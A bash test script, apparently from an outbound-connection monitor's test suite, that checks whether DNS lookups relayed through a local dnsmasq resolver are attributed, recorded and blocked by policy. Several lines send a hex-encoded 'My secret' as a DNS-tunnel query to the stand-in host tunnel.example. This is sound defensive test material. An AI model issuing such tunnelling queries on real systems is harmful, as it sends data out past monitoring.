# SPDX-License-Identifier: GPL-2.0-or-later
# shellcheck shell=bash source=/dev/null disable=SC2086,SC2016,SC2154,SC2034
# L34: data in the names that a program looks up with this machine's own resolver: the lookup is the
# program's, on loopback; what goes on is the resolver's.
. /snitch/leak/lib/leak.sh

RESOLVER=$(readlink -f "$(type -P dnsmasq)")
leak_begin "allow $RESOLVER any"
leak_observe
in_c dnsmasq --user=root --no-resolv --no-hosts --conf-file=/dev/null --pid-file=$TMP/resolver.pid \
	--bind-interfaces --listen-address=127.0.0.53 --server=$F4 --cache-size=0
wait_for 10 eval '[[ -n $(in_c ss -H -lun "src 127.0.0.53:53") ]]'
dig="dig +tries=1 +time=5 +noedns @127.0.0.53"
held "its own lookup" /usr/bin/dig udp 53 $dig 4d7920736563726574.tunnel.example TXT
sent "its own lookup" udp 53 $dig 4d7920736563726574.tunnel.example TXT
t_told "what goes on is told" udp 53 $RESOLVER
held "over TCP" /usr/bin/dig tcp 53 $dig +tcp 4d7920736563726574.tunnel.example TXT
leak_policy "allow $RESOLVER any" "deny /usr/bin/dig 127.0.0.0/8" "$LOOPBACK"
refused "a rule denies it the resolver" $dig 4d7920736563726574.tunnel.example TXT
kill "$(cat $TMP/resolver.pid)"
leak_done
